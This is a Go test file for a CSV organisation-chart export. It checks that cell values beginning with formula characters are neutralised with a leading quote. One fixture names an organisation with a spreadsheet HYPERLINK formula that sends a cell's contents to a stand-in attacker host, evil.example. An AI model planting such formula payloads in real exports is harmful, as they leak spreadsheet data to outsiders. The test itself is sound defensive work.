package server

import (
	"encoding/csv"
	"io"
	"strings"
	"testing"

	"dangbo/internal/auth"
	"dangbo/internal/org"
)

func TestSpreadsheetCell(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://x","y")`: `'=HYPERLINK("http://x","y")`,
		"+1+2":                       "'+1+2",
		"-2+3":                       "'-2+3",
		"@SUM(A1)":                   "'@SUM(A1)",
		"\tx":                        "'\tx",
		"\rx":                        "'\rx",
		"Chi bộ = 3":                 "Chi bộ = 3",
		"12":                         "12",
		"":                           "",
	} {
		if got := spreadsheetCell(in); got != want {
			t.Errorf("spreadsheetCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestOrgChartCSVNeutralisesFormulas: an organisation named like a formula
// is exported as text.
func TestOrgChartCSVNeutralisesFormulas(t *testing.T) {
	s := chartServer(t)
	commune := s.orgID("Đảng bộ xã Tam Hồng")
	const name = `=HYPERLINK("http://evil.example/?"&A1,"Chi bộ")`
	ctx := org.WithPrincipal(t.Context(), auth.DevPrincipal())
	if _, err := s.svc.CreateOrg(ctx, org.NewOrg{ParentID: commune, Name: name, Kind: org.Cell, Sector: org.SectorVillage}); err != nil {
		t.Fatal(err)
	}
	resp := s.get("/export/orgchart.csv?bom=0&root=" + commune)
	body, _ := io.ReadAll(resp.Body)
	rows, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, row := range rows {
		if strings.Contains(row[2], "HYPERLINK") {
			found = true
			if row[2] != "'"+name {
				t.Fatalf("exported as %q", row[2])
			}
		}
	}
	if !found {
		t.Fatalf("the organisation is not in the export: %s", body)
	}
}
